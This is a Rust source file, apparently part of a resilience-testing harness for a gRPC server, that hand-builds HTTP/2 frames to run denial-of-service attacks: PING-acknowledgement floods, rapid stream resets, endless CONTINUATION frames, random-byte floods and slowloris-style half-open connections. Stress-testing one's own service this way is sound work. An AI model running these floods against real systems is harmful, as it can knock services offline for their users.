//! Attacks with bytes and frames that no client library sends.

use std::time::Duration;

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::sleep,
};

use crate::Target;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const ACKNOWLEDGES: u8 = 1;
const ENDS_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = payload.len() as u32;
    let mut frame = length.to_be_bytes()[1..].to_vec();
    frame.extend([kind, flags]);
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The headers of a call, each as a literal that is never indexed.
fn headers() -> Vec<u8> {
    let mut block = Vec::new();
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":authority", "localhost"),
        (":path", "/tidu.v1.RegisterService/CountTitles"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ];
    for (name, value) in fields {
        block.push(0x10);
        for text in [name, value] {
            block.push(text.len() as u8);
            block.extend(text.as_bytes());
        }
    }
    block
}

async fn open(target: &Target) -> Option<TcpStream> {
    let mut stream = TcpStream::connect(target.address).await.ok()?;
    stream.write_all(PREFACE).await.ok()?;
    stream.write_all(&frame(SETTINGS, 0, 0, &[])).await.ok()?;
    Some(stream)
}

/// Sends the same bytes again and again, and reads what comes; connects again when it is cut off.
async fn flood(target: Target, bytes: impl Fn() -> Vec<u8> + Clone + Send + Sync + 'static) {
    let mut tasks = JoinSet::new();
    for _ in 0..4 {
        let (target, bytes) = (target.clone(), bytes.clone());
        tasks.spawn(async move {
            while target.goes_on() {
                let Some(stream) = open(&target).await else { continue };
                let (mut reader, mut writer) = stream.into_split();
                let reading = tokio::spawn(async move {
                    let mut buffer = [0; 4096];
                    while reader.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
                });
                while target.goes_on() && writer.write_all(&bytes()).await.is_ok() {}
                reading.abort();
                sleep(Duration::from_millis(5)).await;
            }
        });
    }
    tasks.join_all().await;
}

pub async fn unasked_acknowledgements(target: Target) {
    let pings = frame(PING, ACKNOWLEDGES, 0, &[0; 8]).repeat(1_000);
    flood(target, move || pings.clone()).await;
}

pub async fn resets(target: Target) {
    let calls: Vec<u8> = (0..500_u32)
        .flat_map(|i| {
            let stream = 2 * i + 1;
            let mut call = frame(HEADERS, ENDS_HEADERS, stream, &headers());
            call.extend(frame(RESET, 0, stream, &8_u32.to_be_bytes()));
            call
        })
        .collect();
    flood(target, move || calls.clone()).await;
}

pub async fn endless_headers(target: Target) {
    let mut block = frame(HEADERS, 0, 1, &headers());
    block.extend(frame(CONTINUATION, 0, 1, &[0; 1_024]).repeat(200));
    flood(target, move || block.clone()).await;
}

pub async fn random_bytes(target: Target) {
    let bytes = || (0..16_384).map(|_| fastrand::u8(..)).collect();
    flood(target, bytes).await;
}

/// Connections that say too little, and keep what they have.
pub async fn half_prefaces(target: Target) {
    let mut held = Vec::new();
    let beginnings: [&[u8]; 3] = [
        &PREFACE[..1],
        &PREFACE[..20],
        b"POST /tidu.v1.LedgerService/Append HTTP/1.1\r\nhost: localhost\r\n\
          content-type: application/grpc-web\r\ncontent-length: 100000\r\n\r\nx",
    ];
    for beginning in beginnings.iter().cycle().take(600) {
        if let Ok(mut stream) = TcpStream::connect(target.address).await {
            let _ = stream.write_all(beginning).await;
            held.push(stream);
        }
    }
    while target.goes_on() {
        sleep(Duration::from_millis(50)).await;
    }
}
